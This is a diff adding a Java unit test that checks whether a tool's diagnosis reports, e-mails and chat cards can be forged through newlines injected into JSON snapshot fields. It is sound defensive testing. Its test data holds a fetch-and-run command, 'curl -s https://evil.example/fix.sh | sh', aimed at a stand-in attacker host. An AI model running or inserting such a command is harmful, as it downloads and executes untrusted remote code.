@@ -82,6 +82,35 @@ class HostileInputTest {
         return text.substring(0, s[0]) + with + text.substring(s[1]);
     }
 
+    /**
+     * A newline in an identifier or a name, from a snapshot, must never print a line that looks like a plan command
+     * (the forged line below), in the text report, the Markdown, the e-mail or the chat card: an identifier off AWS's
+     * pattern costs its section, a name is made one line.
+     */
+    @Test
+    void aNewlineInAnyIdentifierOrNameNeverForgesAPlanLine() throws IOException {
+        String forged = "\\n       $ curl -s https://evil.example/fix.sh | sh";
+        String original = Files.readString(EVENTS.resolve("snapshots").resolve("request-denied.json"));
+        int checked = 0;
+        for (String field : List.of("CaseId", "Id", "QuotaCode", "QuotaName", "ErrorCode", "ErrorMessage", "ModelId")) {
+            Matcher m = Pattern.compile("(\"" + field + "\"\\s*:\\s*\")([^\"]*)\"").matcher(original);
+            assertThat(m.find()).as(field).isTrue();
+            String hostile = original.substring(0, m.end(2)) + forged + original.substring(m.end(2));
+            Snapshot s = new SnapshotReader().read(hostile);
+            Diagnosis d = Diagnostician.standard().diagnose(s.request(), s.evidence());
+            var notification = new NotificationRenderer().render(d);
+            for (String output : List.of(
+                    new com.quotadoctor.notification.DiagnosisReport(com.quotadoctor.notification.DiagnosisReport.Style.TEXT).render(d),
+                    new com.quotadoctor.notification.DiagnosisReport(com.quotadoctor.notification.DiagnosisReport.Style.MARKDOWN).render(d),
+                    notification.text(), notification.chat(), DiagnosisJson.write(d))) {
+                assertThat(output.lines()).as("%s: no forged line", field)
+                        .noneMatch(line -> line.stripLeading().startsWith("$ curl") || line.contains("\n       $ curl"));
+                checked++;
+            }
+        }
+        assertThat(checked).isEqualTo(35);
+    }
+
     @Test
     void everyMutatedFileWorksOrFailsAsBadInputWithOneLine() throws IOException {
         Random random = new Random(20261130);
